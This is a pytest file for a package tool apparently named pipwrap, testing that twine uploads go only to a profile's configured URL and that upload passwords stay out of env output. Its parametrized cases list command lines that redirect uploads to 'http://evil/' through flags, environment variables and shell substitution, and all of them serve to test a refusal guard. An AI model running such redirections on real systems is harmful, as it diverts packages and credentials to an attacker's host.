"""Uploads: `wrap twine upload` goes to the profile's upload-url and nowhere else; the repo
tree doubles as a pypiserver directory that accepts uploads; the built-in `local` profile
works with no config file at all."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from pipwrap.errors import RefusedError
from pipwrap.guard import check
from pipwrap.profiles import model as config
from pipwrap.repo import defaults
from tests.support import hosting
from tests.support.sandbox import Indexes, Sandbox, installed
from tests.support.servers import serving
from tests.support.wheels import make_wheel

UPLOAD = "http://127.0.0.1:9/"


@pytest.mark.parametrize("argv", [
    "twine upload --repository-url http://evil/ dist/x.whl",
    "twine upload --repository-url=http://evil/ dist/x.whl",
    "twine upload --repository-u http://evil/ dist/x.whl",
    "twine upload --repo pypi dist/x.whl",
    "twine upload -r pypi dist/x.whl",
    "twine upload -rpypi dist/x.whl",
    "twine upload --config-file other.pypirc dist/x.whl",
    "twine upload --conf=other.pypirc dist/x.whl",
    "python -m twine upload -r pypi dist/x.whl",
    "env twine register --repository pypi x.whl",
    "twine -- upload --repository-url http://evil/ x.whl",
    "python -m twine -- upload -r pypi x.whl",
    # The profile's own upload URL is allowed (tests/unit/test_guard_piptools.py), no other.
    f"twine upload --repository-url {UPLOAD}other/ x.whl",
    f"twine upload --repository-url {UPLOAD} --repository-url http://evil/ x.whl",
    f"twine upload --repository-url {UPLOAD} -r pypi x.whl",
    f"twine upload --repository {UPLOAD} x.whl",
    "twine upload --repository-url",
])
def test_twine_destination_options_are_refused(argv: str) -> None:
    with pytest.raises(RefusedError, match=r"upload destination|pypirc repository"):
        check(argv.split(), {}, index_url="http://i/simple/", upload_url=UPLOAD)


@pytest.mark.parametrize("argv", [
    ["env", "TWINE_REPOSITORY_URL=http://evil/", "twine", "upload", "x.whl"],
    ["sh", "-c", "TWINE_REPOSITORY_URL=http://evil/ twine upload x.whl"],
    ["sh", "-c", "export TWINE_REPOSITORY=pypi; twine upload x.whl"],
    ["fish", "-c", "set -gx TWINE_REPOSITORY_URL http://evil/; twine upload x.whl"],
    ["env", "-u", "TWINE_REPOSITORY_URL", "twine", "upload", "x.whl"],
    ["env", "--unset=TWINE_REPOSITORY_URL", "twine", "upload", "x.whl"],
    ["sh", "-c", "unset TWINE_REPOSITORY_URL; twine upload x.whl"],
    ["sh", "-c", "twine upload --repository-url $(echo http://evil/) x.whl"],
    ["sh", "-c", "T=twine; $T upload --repository-url http://evil/ x.whl"],
])
def test_twine_destination_variables_set_inside_the_command_are_refused(
    argv: list[str]
) -> None:
    with pytest.raises(RefusedError):
        check(argv, {}, index_url="http://i/simple/", upload_url=UPLOAD)


def test_twine_upload_needs_an_upload_url_and_twine_check_does_not() -> None:
    with pytest.raises(RefusedError, match=r"no upload-url.*public index"):
        check(["twine", "upload", "dist/x.whl"], {}, index_url="http://i/simple/")
    check(["twine", "check", "dist/x.whl"], {}, index_url="http://i/simple/")
    check(["twine", "upload", "--skip-existing", "dist/x.whl"], {},
          index_url="http://i/simple/", upload_url=UPLOAD)


def test_wrap_twine_upload_goes_to_the_profile_upload_url(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    """A leaked TWINE_REPOSITORY_URL sends the upload elsewhere without pipwrap, not with it."""
    ours, theirs = tmp_path / "ours", tmp_path / "theirs"
    ours.mkdir()
    theirs.mkdir()
    make_wheel(tmp_path / "first", "Foo", "1.0", "local")  # ours already has something
    assert subprocess.run([sys.executable, "-m", "pipwrap", "repo", "add", "--repo", str(ours),
                           str(tmp_path / "first" / "foo-1.0-py3-none-any.whl")],
                          env=sandbox.env, capture_output=True, check=False).returncode == 0
    new = make_wheel(tmp_path / "dist", "New.Thing", "0.1", "local")
    with serving(ours) as our_server, serving(theirs) as their_server:
        upload_url = our_server.url.removesuffix("simple/")
        sandbox.write_config(
            'default = "corp"\n[profiles.corp]\n'
            f'index-url = "{our_server.url}"\nupload-url = "{upload_url}"\n'
            'username = "ci"\npassword-env = "UPLOAD_TOKEN"\n')
        leak = their_server.url.removesuffix("simple/")
        done = sandbox.sh("bash", (
            f"TWINE_USERNAME=x TWINE_PASSWORD=x twine upload --non-interactive {new} >/dev/null"
            f"\necho bare=$?\nwrap twine upload --non-interactive {new}\necho wrapped=$?\n"),
            TWINE_REPOSITORY_URL=leak, UPLOAD_TOKEN="s3cr3t-token")
        assert "bare=0" in done.stdout and "wrapped=0" in done.stdout, done.stderr
        assert (theirs / new.name).is_file()  # the staged leak worked without pipwrap
        assert (ours / new.name).is_file()  # pypiserver put the upload at the top
        assert "s3cr3t-token" not in done.stdout + done.stderr

        # The tree is still pipwrap's: index moves the upload into its project directory,
        # and both servers keep serving it.
        indexed = subprocess.run([sys.executable, "-m", "pipwrap", "repo", "index", "--repo",
                                  str(ours)], env=sandbox.env, capture_output=True, text=True,
                                 check=False)
        assert indexed.returncode == 0, indexed.stderr
        assert (ours / "new-thing" / new.name).is_file()
        done = sandbox.sh("bash", f"wrap pip install -q --target {tmp_path / 't'} new-thing foo",
                          UPLOAD_TOKEN="s3cr3t-token")
        assert done.returncode == 0, done.stderr
        assert installed(tmp_path / "t", "new_thing") == ("local", "0.1")
        assert installed(tmp_path / "t") == ("local", "1.0")

        sandbox.write_config(f'[profiles.c]\nindex-url = "{our_server.url}"\n')
        done = sandbox.sh("bash", f"PIPWRAP_PROFILE=c wrap twine upload {new}\necho s=$?")
        assert "s=3" in done.stdout and "no upload-url" in done.stderr


def test_the_builtin_local_profile_needs_no_config(sandbox: Sandbox, tmp_path: Path) -> None:
    """The first hour of the hosting half: repo add, serve, wrap pip install. Nothing else."""
    assert f"http://{defaults.HOST}:{defaults.PORT}/simple/" == config.BUILTIN_URL
    env = dict(sandbox.env)
    del env["PIPWRAP_CONFIG"]
    sandbox.config.unlink()  # the default location: no config file at all
    assert not Path(env["XDG_CONFIG_HOME"], "pipwrap", "config.toml").exists()
    wheel = make_wheel(tmp_path / "dist", "Foo", "1.0", "local")
    done = subprocess.run([sys.executable, "-m", "pipwrap", "repo", "add", str(wheel)],
                          env=env, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    listed = subprocess.run([sys.executable, "-m", "pipwrap", "list"], env=env,
                            capture_output=True, text=True, check=False)
    assert "local  http://127.0.0.1:8080/simple/  (built in)" in listed.stdout
    repo = Path(env["XDG_DATA_HOME"]) / "pipwrap" / "repo"
    try:
        server = hosting.pipwrap_serve(repo, tmp_path / "log", "--no-fallback",
                                       port=defaults.PORT, env=env)
        served = server.__enter__()
    except RuntimeError:
        pytest.fail(f"port {defaults.PORT} is taken on this machine: `pipwrap serve` cannot "
                    f"take its default port:\n{(tmp_path / 'log').read_text()}")
    try:
        assert served.url == config.BUILTIN_URL
        script = f"cd ~\nwrap pip install -q --target {tmp_path / 't'} foo\necho s=$?\n"
        done = sandbox.sh("bash", script, **{"PIPWRAP_CONFIG": ""})
        assert "s=0" in done.stdout, done.stderr
        assert installed(tmp_path / "t") == ("local", "1.0")
    finally:
        server.__exit__(None, None, None)


def test_an_explicit_local_profile_overrides_the_builtin(sandbox: Sandbox,
                                                         indexes: Indexes) -> None:
    done = subprocess.run([sys.executable, "-m", "pipwrap", "list"], env=sandbox.env,
                          capture_output=True, text=True, check=False)
    assert f"local     {indexes.local.url}\n" in done.stdout and "built in" not in done.stdout
    sandbox.write_config(f'default = "up"\n[profiles.up]\nindex-url = "{indexes.upstream.url}"\n')
    done = subprocess.run([sys.executable, "-m", "pipwrap", "list"], env=sandbox.env,
                          capture_output=True, text=True, check=False)
    assert "local  http://127.0.0.1:8080/simple/  (built in)" in done.stdout
    removed = subprocess.run([sys.executable, "-m", "pipwrap", "remove", "local"],
                             env=sandbox.env, capture_output=True, text=True, check=False)
    assert removed.returncode == 2 and "built in" in removed.stderr
    # A PIPWRAP_CONFIG naming a missing file is an error, never the built-in default.
    missing = {**sandbox.env, "PIPWRAP_CONFIG": str(sandbox.home / "typo.toml")}
    done = subprocess.run([sys.executable, "-m", "pipwrap", "current"], env=missing,
                          capture_output=True, text=True, check=False)
    assert done.returncode == 2 and "no config file at" in done.stderr


def test_env_never_holds_the_upload_password(sandbox: Sandbox) -> None:
    """twine gets a placeholder it will not prompt about; the fence adds the real login."""
    sandbox.write_config('default = "c"\n[profiles.c]\nindex-url = "https://i.example/s/"\n'
                         'upload-url = "https://u.example/"\nusername = "ci"\n'
                         'password-env = "UP_PW"\n')
    env = {**sandbox.env, "UP_PW": "s3cr3t-pw"}
    for args in (["env"], ["env", "--json"], ["env", "--format", "fish"]):
        done = subprocess.run([sys.executable, "-m", "pipwrap", *args], env=env,
                              capture_output=True, text=True, check=False)
        assert done.returncode == 0 and "TWINE_PASSWORD" in done.stdout, done.stderr
        assert "s3cr3t-pw" not in done.stdout + done.stderr
    done = subprocess.run([sys.executable, "-m", "pipwrap", "env", "--reveal"], env=env,
                          capture_output=True, text=True, check=False)
    assert "TWINE_PASSWORD='pipwrap-fence-adds-the-login'" in done.stdout, done.stderr
    assert "TWINE_USERNAME='ci'" in done.stdout
    assert "s3cr3t-pw" not in done.stdout + done.stderr
